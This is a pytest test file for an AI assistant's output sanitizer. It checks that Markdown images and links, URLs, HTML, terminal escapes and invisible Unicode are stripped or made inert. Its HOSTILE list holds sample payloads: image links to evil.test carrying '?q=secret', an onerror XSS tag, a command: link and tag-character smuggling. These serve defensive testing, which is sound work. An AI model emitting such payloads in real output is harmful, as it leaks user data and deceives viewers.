"""Untrusted text: sequences that a terminal or a Markdown view would act on are removed."""

import pytest

from fieldguide_server.assistant.text.sanitizer import StreamSanitizer, clean, sanitize

HOSTILE = [
    ("a ![x](https://evil.test/?q=secret) b", "a x b"),
    ("![x][1]\n\n[1]: https://evil.test/p.png", "x\n\n1: `https://evil.test/p.png`"),
    ("![x\ny](https://evil.test/p.png)", "! [x\ny] (`https://evil.test/p.png)`"),
    ("![x](\n//evil.test/p.png)", "! [x] (\n//evil.test/p.png)"),
    ("`![x](https://evil.test/p.png)`", "`! [x] (https://evil.test/p.png)`"),
    ('a [b c](https://evil.test/ "d e") f', "a b c f"),
    ("[run](command:workbench.action.terminal.new) it", "run it"),
    ("see https://evil.test/?q=secret now", "see `https://evil.test/?q=secret` now"),
    ("<https://evil.test/>", "`https://evil.test/`"),
    ("www.evil.test/q", "`www.evil.test/q`"),
    ('a <img src="https://evil.test/p.png"> b', "a  b"),
    ("a <IMG/src=x onerror=alert(1)> b", "a  b"),
    ("<div>\n```\n\n![x](https://evil.test/p.png)", "&lt;div>\n```\n\n![x](https://evil.test/p.png)"),
    ("- ```\n![x](https://evil.test/p.png)", "- ```\nx"),
    ("    ```\n![x](https://evil.test/p.png)", "    ```\nx"),
    ("> ```\n![x](https://evil.test/p.png)", "> ```\nx"),
    ("```\nopen\n```\n![x](https://evil.test/p.png)", "```\nopen\n```\nx"),
    ("[shop/a.py:3](https://evil.test/)", "[shop/a.py:3]"),
]

HARMLESS = [
    "The store [shop/sessions.py:14-17] signs; see [README.md:3] and [1].",
    "A `List<int>` of List<String>, x < y > z, and `a[0](b)`.".replace("`a[0](b)`", "`a[0]`"),
    '```html\n<img src="logo.png"> <a href="https://example.org">x</a>\n![x](y.png)\n```\nDone.',
    "~~~\n[a](https://example.org)\n~~~",
    "1. One\n   ```sh\n   curl https://example.org\n   ```\n2. Two",
    "Naïve café, 日本語, emoji 🎉, tabs\tand `code`.\n\n* bullet\n",
]


@pytest.mark.parametrize(("text", "shown"), HOSTILE)
def test_images_links_addresses_and_html_are_made_inert(text: str, shown: str) -> None:
    assert sanitize(text) == shown


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_markdown_and_code_blocks_stay_as_they_are(text: str) -> None:
    assert sanitize(text) == text


@pytest.mark.parametrize("text", [*[hostile for hostile, _ in HOSTILE], *HARMLESS])
@pytest.mark.parametrize("size", [1, 3, 7])
def test_a_stream_shows_the_same_as_the_complete_text(text: str, size: int) -> None:
    sanitizer = StreamSanitizer()
    shown = "".join(sanitizer.feed(text[at : at + size]) for at in range(0, len(text), size))
    assert shown + sanitizer.flush() == sanitize(text)


def test_a_stream_shows_plain_words_at_once() -> None:
    sanitizer = StreamSanitizer()
    assert sanitizer.feed("The store signs ") == "The store signs "
    assert sanitizer.feed("cookies with ") == "cookies with "
    assert sanitizer.feed("`hmac` and [a.py:3") == "`hmac` and "
    assert sanitizer.feed("] so ") == "[a.py:3] so "


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b]8;;https://evil.test\x07link\x1b]8;;\x07", "link"),
        ("\x1b]0;title\x1b\\text", "text"),
        ("\x9b2Jcleared", "cleared"),
        ("bell\x07 back\x08space \x00nul", "bell backspace nul"),
        ("user\u202enimda\u202c \u2066x\u2069", "usernimda x"),
        ("zero\u200bwidth\u200d\ufeff\u2060", "zerowidth"),
        ("tags\U000e0049\U000e0067nored", "tagsnored"),
        ("line\r\nend\ttab", "line\nend\ttab"),
    ],
)
def test_invisible_characters_are_removed(text: str, shown: str) -> None:
    assert clean(text) == shown


def test_an_escape_sequence_in_pieces_is_removed_completely() -> None:
    sanitizer = StreamSanitizer()
    shown = "".join(sanitizer.feed(character) for character in "so \x1b[31mred\x1b[0m it is ")
    assert shown + sanitizer.flush() == "so red it is "


def test_long_lines_full_of_brackets_take_no_harm() -> None:
    text = "[" * 20_000 + "](" * 5_000 + "<" * 20_000 + "`" * 5_000
    assert "](" not in sanitize(text)
